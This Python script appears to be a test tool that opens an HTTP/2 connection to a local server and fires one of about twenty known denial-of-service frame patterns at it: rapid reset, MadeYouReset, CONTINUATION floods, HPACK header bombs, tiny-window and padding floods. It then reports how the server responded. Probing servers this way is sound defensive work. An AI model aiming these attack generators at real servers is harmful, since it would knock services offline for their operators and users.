#!/usr/bin/python3
"""Abuses HTTP/2 on purpose, with Debian's python3-h2 (its hpack and hyperframe), and tells what the server did.

usage: h2_abuse.py PORT ATTACK [MOST]

Opens a connection with prior knowledge, repeats the attack until the server sends GOAWAY, closes, or has endured it
MOST times, and prints one line of JSON: how often it was sent, the error of the last GOAWAY, whether the connection was
closed, and the RST_STREAM codes that came.
"""

import collections
import json
import select
import socket
import struct
import sys

import hpack
from h2.errors import ErrorCodes
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame, PriorityFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

LIMIT_S = 10
# Of streams whose reset has not come yet: fewer than any server allows at once.
MOST_UNANSWERED = 20
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAME_HEAD_BYTES = 9
REQUEST = [(":method", "GET"), (":scheme", "http"), (":authority", "a.test"), (":path", "/slow")]
UPLOAD = [(":method", "POST"), *REQUEST[1:3], (":path", "/upload")]


class Ended(Exception):
    """The server has closed, or takes no more."""


class Connection:
    def __init__(self, port):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=LIMIT_S)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.encoder = hpack.Encoder()
        self.received = b""
        self.goaway = None
        self.resets = collections.Counter()
        self.is_closed = False
        self.has_answer = False
        self.data_frames = 0
        self.has_settings = False
        self.next_stream = 1
        self.is_made_to_reset = False  # then it waits for the resets, lest there be too many streams at once
        self.socket.sendall(PREFACE + SettingsFrame(0).serialize())
        # Later the acknowledgement would fall between a HEADERS frame and its CONTINUATION.
        while not self.has_settings and self.read(LIMIT_S):
            continue

    def new_stream(self):
        self.next_stream += 2
        return self.next_stream - 2

    def headers(self, stream, fields, flags=("END_HEADERS", "END_STREAM")):
        return HeadersFrame(stream, data=self.encoder.encode(fields), flags=flags).serialize()

    def send(self, data):
        """Sends, and reads what has come meanwhile, so that neither side waits for the other."""
        try:
            while data:
                self.read(0)
                _, writable, _ = select.select([], [self.socket], [], 0.1)
                if writable:
                    data = data[self.socket.send(data):]
            self.read(0)
        except OSError as error:
            self.drain()
            raise Ended from error
        while self.is_made_to_reset and self.next_stream // 2 - self.resets.total() > MOST_UNANSWERED:
            if not self.read(LIMIT_S):
                break
        if self.goaway is not None or self.is_closed:
            raise Ended

    def read(self, seconds):
        """False when nothing came in that time, or nothing will any more."""
        readable, _, _ = select.select([self.socket], [], [], seconds)
        if not readable or self.is_closed:
            return False
        try:
            data = self.socket.recv(65536)
        except OSError:
            data = b""
        self.is_closed = not data
        self.received += data
        while len(self.received) >= FRAME_HEAD_BYTES:
            frame, size = Frame.parse_frame_header(memoryview(self.received[:FRAME_HEAD_BYTES]))
            if len(self.received) < FRAME_HEAD_BYTES + size:
                break
            frame.parse_body(memoryview(self.received[FRAME_HEAD_BYTES:FRAME_HEAD_BYTES + size]))
            self.received = self.received[FRAME_HEAD_BYTES + size:]
            self.on_frame(frame)
        return not self.is_closed

    def on_frame(self, frame):
        self.has_answer = self.has_answer or "END_STREAM" in frame.flags
        self.data_frames += isinstance(frame, DataFrame)
        if isinstance(frame, GoAwayFrame):
            self.goaway = name_of(frame.error_code)
        elif isinstance(frame, RstStreamFrame):
            self.resets[name_of(frame.error_code)] += 1
        elif isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
            self.has_settings = True
            self.socket.sendall(SettingsFrame(0, flags=("ACK",)).serialize())

    def drain(self):
        while self.read(LIMIT_S):
            continue


def name_of(code):
    return ErrorCodes(code).name if code in list(ErrorCodes) else str(code)


# Each yields the bytes of one blow after the other.


def rapid_reset(connection):
    while True:
        stream = connection.new_stream()
        yield connection.headers(stream, REQUEST) + RstStreamFrame(stream, ErrorCodes.CANCEL).serialize()


def made_you_reset_by_window(connection):
    """CVE-2025-8671: the server resets what it has begun to serve, since the client overflows its window."""
    while True:
        stream = connection.new_stream()
        yield connection.headers(stream, REQUEST) + WindowUpdateFrame(stream, 2**31 - 1).serialize()


def made_you_reset_by_length(connection):
    while True:
        stream = connection.new_stream()
        yield (connection.headers(stream, [*UPLOAD, ("content-length", "1")], ("END_HEADERS",))
               + DataFrame(stream, b"more than one").serialize())


def made_you_reset_by_field(connection):
    while True:
        yield connection.headers(connection.new_stream(), [*REQUEST, ("connection", "close")])


def settings(_):
    while True:
        yield SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize()


def ping(_):
    while True:
        yield PingFrame(0, b"\0" * 8).serialize()


def empty_data(connection):
    stream = connection.new_stream()
    yield connection.headers(stream, UPLOAD, ("END_HEADERS",))
    while True:
        yield DataFrame(stream).serialize()


def padding(connection):
    """CVE-2019-9518 in disguise: DATA that is long enough, and nothing but padding."""
    stream = connection.new_stream()
    yield connection.headers(stream, UPLOAD, ("END_HEADERS",))
    while True:
        yield DataFrame(stream, pad_length=100, flags=("PADDED",)).serialize()


def window_update(_):
    while True:
        yield WindowUpdateFrame(0, 1).serialize()


def priority(connection):
    while True:
        yield PriorityFrame(connection.next_stream, depends_on=0, stream_weight=1, exclusive=False).serialize()


def priority_update(connection):
    """RFC 9218 section 7.1; hyperframe does not know the frame."""
    while True:
        payload = struct.pack("!L", connection.next_stream) + b"u=1"
        yield struct.pack("!HBBBL", 0, len(payload), 0x10, 0, 0) + payload


def unknown_frames(_):
    while True:
        yield struct.pack("!HBBBL", 0, 6, 0xfa, 0, 0) + b"grease"


def late_data(connection):
    """DATA of a stream that has been answered."""
    stream = connection.new_stream()
    yield connection.headers(stream, [*REQUEST[:3], (":path", "/a")])
    while not connection.has_answer:
        connection.read(LIMIT_S)
    while True:
        yield DataFrame(stream, b"late").serialize()


def tiny_window(connection):
    """CVE-2019-9511: a response that leaves byte by byte, each in a frame of its own."""
    stream = connection.new_stream()
    yield (SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0}).serialize()
           + connection.headers(stream, [*REQUEST[:3], (":path", "/large")]))
    while True:
        had = connection.data_frames
        yield WindowUpdateFrame(stream, 1).serialize()
        while connection.data_frames == had and connection.goaway is None and connection.read(LIMIT_S):
            continue


def continuation(connection):
    """CVE-2024-28182 and its like: a head that never ends."""
    block = connection.encoder.encode(REQUEST)
    stream = connection.new_stream()
    yield HeadersFrame(stream, data=block, flags=("END_STREAM",)).serialize()
    while True:
        block = connection.encoder.encode([("x-more", "a" * 100)])
        yield ContinuationFrame(stream, data=block).serialize()


def empty_continuation(connection):
    stream = connection.new_stream()
    yield HeadersFrame(stream, data=connection.encoder.encode(REQUEST), flags=("END_STREAM",)).serialize()
    while True:
        yield ContinuationFrame(stream).serialize()


def repeated(connection, field, times):
    """A request with one field many times, each but the first by one byte that names an entry of the dynamic table."""
    while True:
        block = connection.encoder.encode([*REQUEST, field]) + connection.encoder.encode([field]) * times
        yield HeadersFrame(connection.new_stream(), data=block, flags=("END_HEADERS", "END_STREAM")).serialize()


def header_bomb(connection):
    """4 KiB become 14 MiB."""
    return repeated(connection, ("x-bomb", "a" * 3500), 4000)


def cookie_crumbs(connection):
    """The same in crumbs that each are small, and that are joined to one field."""
    return repeated(connection, ("cookie", "a=b"), 15000)


def too_many_streams(connection):
    """Streams that are never ended, beyond what SETTINGS allow."""
    while True:
        yield connection.headers(connection.new_stream(), UPLOAD, ("END_HEADERS",))


ATTACKS = {attack.__name__.replace("_", "-"): attack for attack in (
    rapid_reset, made_you_reset_by_window, made_you_reset_by_length, made_you_reset_by_field, settings, ping,
    empty_data, padding, window_update, priority, priority_update, unknown_frames, late_data, tiny_window,
    continuation, empty_continuation, header_bomb, cookie_crumbs,
    too_many_streams)}


def main():
    port, attack, most = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]) if len(sys.argv) > 3 else 100_000
    connection = Connection(port)
    connection.is_made_to_reset = attack.startswith("made-you-reset")
    sent = 0
    try:
        for blow in ATTACKS[attack](connection):
            connection.send(blow)
            sent += 1
            if sent == most:
                break
    except Ended:
        connection.drain()
    print(json.dumps({"sent": sent, "goaway": connection.goaway, "closed": connection.is_closed,
                      "resets": connection.resets}))


if __name__ == "__main__":
    main()
